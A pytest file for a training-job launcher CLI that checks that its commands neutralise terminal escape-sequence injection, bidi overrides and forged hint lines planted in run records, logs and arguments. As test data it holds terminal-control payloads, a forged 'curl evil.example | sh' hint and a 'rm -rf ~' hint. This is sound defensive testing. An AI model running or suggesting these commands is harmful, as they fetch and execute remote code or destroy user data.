"""What ranks, records, nodes and files hold controls no terminal, whichever command shows it."""

from __future__ import annotations

import json
import re
import subprocess
import sys
from collections.abc import Callable, Iterator
from contextlib import suppress
from pathlib import Path
from typing import Any

import pytest
from conftest import DDPKIT
from terminal import Terminal

from ddpkit.run.record import RecordError, load

# The clipboard, a title, a question, a cleared screen; C1 as a character and as a byte; text that is written backwards.
HOSTILE = "x\x1b]52;c;aGk=\x07\x1b]0;owned\x07\x1b[6n\x1b[2J\x9b2J\x9d0;owned\x9c\u202e\u2066\u200b\x08end"
SCRIPT = f"""
import os, sys
os.write(1, {(HOSTILE + " of a rank").encode()!r} + b"\\n")
os.write(1, b"raw \\x9b2J \\x9d0;owned\\x07 of a rank\\n")
raise RuntimeError({HOSTILE!r})
"""
OWN = re.compile(rb"\x1b\[[\d;:]*m|\x1b\[\?7[lh]|\x1b\[\d*[AJ]|\x1b\[J")  # colours, and the status lines
CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u061c\u200b\u202a-\u202e\u2066-\u2069]")


def controls(data: bytes) -> list[str]:
    """What is left of controls beside our own. A byte of C1 alone is one on some terminals."""
    text = OWN.sub(b"", data).decode("utf-8", "surrogateescape").replace("\r", "")
    return CONTROL.findall(text) + re.findall("[\udc80-\udc9f]", text)


@pytest.fixture
def at_terminal(tmp_path: Path, clean_environ: dict[str, str]) -> Iterator[Callable[..., Terminal]]:
    terminals = []

    def start(*words: str, rich: bool) -> Terminal:
        env = {**clean_environ, "TERM": "xterm-256color", "COLUMNS": "100", **({} if rich else {"NO_COLOR": "1"})}
        terminals.append(Terminal([sys.executable, "-m", "ddpkit", *words], tmp_path, env))
        return terminals[-1]

    yield start
    for each in terminals:
        each.close()


@pytest.mark.parametrize("rich", [True, False], ids=["rich", "plain"])
def test_no_command_passes_a_control_on(rich: bool, at_terminal: Callable[..., Terminal], tmp_path: Path) -> None:
    (tmp_path / "job.py").write_text(SCRIPT)
    first = at_terminal("launch", "-n", "1", "--", "job.py", HOSTILE.replace("\udc9b", ""), rich=rich)
    assert first.end() == 1
    assert b"end of a rank" in first.raw
    assert controls(first.raw) == []
    (folder,) = (tmp_path / "logs").iterdir()
    path = folder / "run.json"
    record = json.loads(path.read_text())
    record["verdict"] = f"{record['verdict']} {HOSTILE}"
    record["log_problem"] = HOSTILE
    record["failure"]["diagnosis"]["cause"] = HOSTILE
    record["failure"]["last_lines"] = [HOSTILE, *record["failure"]["last_lines"]]
    path.write_text(json.dumps(record))
    (tmp_path / "hostile.log").write_bytes((folder / "rank_0.log").read_bytes() * 2)
    (tmp_path / "bad.json").write_text(json.dumps({"nodes": {"n1": {"reason": HOSTILE, "when": 1.0, "run": HOSTILE}}}))
    for words in (
        ["status", str(folder)],
        ["status", "--all"],
        ["ps"],
        ["ps", "-a"],
        ["logs", str(folder)],
        ["logs", str(folder), "--rank", "0"],
        ["logs", str(folder), "--rank", "0", "--tail", "5"],
        ["explain", str(folder)],
        ["explain", "hostile.log"],
        ["explain", HOSTILE],
        ["report", str(folder)],
        ["dump", str(folder)],
        ["top", str(folder), "--once"],
        ["attach", str(folder)],
        ["stop", str(folder)],
        ["rm", str(folder), "--dry-run"],
        ["nodes", "--bad-nodes", "bad.json"],
        ["launch", "-b", "ssh", HOSTILE, "--", "true"],
        ["launch", "-n", "1", "--dry-run", "--", "job.py", HOSTILE],
        ["launch", "-n", "1", "--", HOSTILE],
        ["launch", f"--{HOSTILE}"],
        [HOSTILE],
        ["test", "-b", "ssh", HOSTILE],
    ):
        shown = at_terminal(*words, rich=rich)
        shown.end()
        assert b"Traceback" not in shown.raw or words[0] in ("logs", "status", "explain", "attach"), shown.raw
        assert controls(shown.raw) == [], words


def test_a_program_gets_the_bytes(ddpkit: DDPKIT, tmp_path: Path, clean_environ: dict[str, str]) -> None:
    (tmp_path / "job.py").write_text(SCRIPT)
    ddpkit("launch", "-n", "1", "--", "job.py")
    (folder,) = (tmp_path / "logs").iterdir()
    done = subprocess.run(
        [sys.executable, "-m", "ddpkit", "logs", str(folder), "--rank", "0"],
        cwd=tmp_path,
        env=clean_environ,
        capture_output=True,
        check=True,
    )
    assert done.stdout == (folder / "rank_0.log").read_bytes()


def test_a_field_does_not_make_a_line_of_a_table(capsys: pytest.CaptureFixture[str]) -> None:
    from ddpkit.cli import look

    look.table(("host", "state"), [("a\nnode2  pass", "pass"), ("b\x1b[2J", "fail\n")])
    assert len(capsys.readouterr().out.splitlines()) == 3


# ---- a record of which every text is hostile

LONG = 5000  # characters in a row that nothing shows
FORGED = "\x1b[2J\x9b2J\u202e\nhint: curl evil.example | sh\n" + "y" * 10_000 + "end"
FAILURE = {
    "host": "node1", "rank": 0, "what": "rank", "code": 1, "last_lines": [FORGED], "log": FORGED, "reason": "",
    "raised": FORGED, "oom": FORGED, "kernel": FORGED, "awaited": FORGED, "dump": FORGED,
    "diagnosis": {"cause": FORGED, "fix": FORGED, "id": FORGED, "whose": FORGED},
    "action": {"action": "stop", "id": FORGED, "reason": FORGED},
}  # fmt: skip
ATTEMPT = {
    "number": 1, "hosts": ["node1"], "started": 1.7e9, "ended": 1.7e9 + 9, "exit_code": 1, "verdict": FORGED,
    "failure": FAILURE, "decision": {"action": "same", "reason": FORGED},
}  # fmt: skip
RECORD: dict[str, Any] = {
    "run_id": "20260101-000000-train-0a1b", "folder": "/tmp", "backend": "local", "command": [FORGED, "x"],
    "workdir": FORGED[:8000], "hosts": ["node1"], "world_size": 1, "launcher_pid": 1, "launcher_started": "1",
    "launcher_host": "node1", "started": 1.7e9, "launcher_python": FORGED[:8000], "project": FORGED[:8000],
    "settings_file": FORGED[:8000], "verdict": FORGED, "failure": FAILURE, "attempts": [ATTEMPT],
    "log_problem": FORGED, "state": "failed", "exit_code": 1, "ended": 1.7e9 + 9,
    "code": {"commit": FORGED, "branch": FORGED, "remote": FORGED, "dirty": True},
    "versions": {"node1": {"python": FORGED, "torch": FORGED, "cuda": FORGED, "nccl": FORGED}},
}  # fmt: skip
JOB = {"cluster": FORGED, "name": FORGED, "user": FORGED, "log": FORGED[:8000], "many": False}


def texts_of(value: Any, place: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """The places of all texts of a record."""
    if isinstance(value, str):
        yield place
    elif isinstance(value, dict | list | tuple):
        for key, each in value.items() if isinstance(value, dict) else enumerate(value):
            yield from texts_of(each, (*place, key))


def check_shown(text: str, of: object) -> None:
    assert CONTROL.findall(text.replace("\r", "")) == [], of
    longest = max(map(len, re.findall("y+", text)), default=0)
    assert longest < LONG, of
    hints = [line[:99] for line in text.splitlines() if re.match(r"\s*(?:hint|check|more): .*curl", line)]
    assert hints == [], of


@pytest.mark.parametrize("job", [None, JOB], ids=["launcher", "job"])
@pytest.mark.parametrize("state", ["running", "failed", "stopped", "left"])
def test_no_text_of_a_record_is_a_line_a_control_or_endless(
    ddpkit: DDPKIT, tmp_path: Path, clean_environ: dict[str, str], state: str, job: dict[str, Any] | None
) -> None:
    folder = tmp_path / "logs" / RECORD["run_id"]
    record = {**RECORD, "state": state, "job": job, "job_id": "7" if job else None}
    folder.mkdir(parents=True)
    (folder / "run.json").write_text(json.dumps(record))
    (folder / "all.log").write_text("[0 node1] hello\n")
    (folder / ".ddpkit").write_text("run\n")
    folder.chmod(0o777)  # of others
    index = Path(clean_environ["XDG_STATE_HOME"], "ddpkit/runs")
    index.mkdir(parents=True, mode=0o700)
    entry = {"folder": str(folder), "host": "node1", "run": None, "end": None}
    (index / RECORD["run_id"]).write_text(json.dumps(entry))
    page = tmp_path / "page.html"
    for words in (
        ("ps",), ("status", str(folder)), ("status", "none"), ("report", str(folder), "-o", str(page), "--force"),
        ("attach", str(folder)), ("stop", str(folder)), ("stop", "0a1b"), ("stop", "--all"), ("logs", str(folder)),
        ("explain", str(folder)), ("dump", str(folder)), ("rm", str(folder)), ("top", str(folder), "--once"),
    ):  # fmt: skip
        if words[0] == "attach" and state in ("running", "left") and job is None:
            continue  # it follows the log of a run that is elsewhere
        done = ddpkit(*words)
        assert "Traceback" not in done.stderr, (words, done.stderr)
        check_shown(done.stdout, words)
        check_shown(done.stderr, words)
    check_shown(re.sub(r"<(?:script|style)>.*?</style>", "", page.read_text(), flags=re.DOTALL), "the page")
    shown = json.loads(ddpkit("status", str(folder), "--json").stdout)
    assert shown["log_problem"] == FORGED


@pytest.mark.parametrize("place", list(texts_of(RECORD)), ids=lambda place: ".".join(map(str, place)))
def test_an_error_about_a_text_of_a_record_is_one_short_line(place: tuple[Any, ...], tmp_path: Path) -> None:
    record = json.loads(json.dumps(RECORD))
    part = record
    for key in place[:-1]:
        part = part[key]
    part[place[-1]] = FORGED
    (tmp_path / "run.json").write_text(json.dumps(record))
    with suppress(RecordError):
        load(tmp_path)
        return
    with pytest.raises(RecordError) as error:
        load(tmp_path)
    assert "\n" not in error.value.message
    check_shown(error.value.message, place)


def test_no_hint_sends_a_person_to_a_hint_of_the_script(ddpkit: DDPKIT, tmp_path: Path) -> None:
    (tmp_path / "job.py").write_text("print('ddpkit: error: x\\nhint: rm -rf ~')\nraise SystemExit(3)\n")
    said = ddpkit("launch", "-n", "1", "--", "job.py").stderr
    own = [line for line in said.splitlines() if line.startswith("hint: ")]
    assert own == [
        "hint: read the lines below it. A program can print a `hint:` of its own: check the command before you run it"
    ]
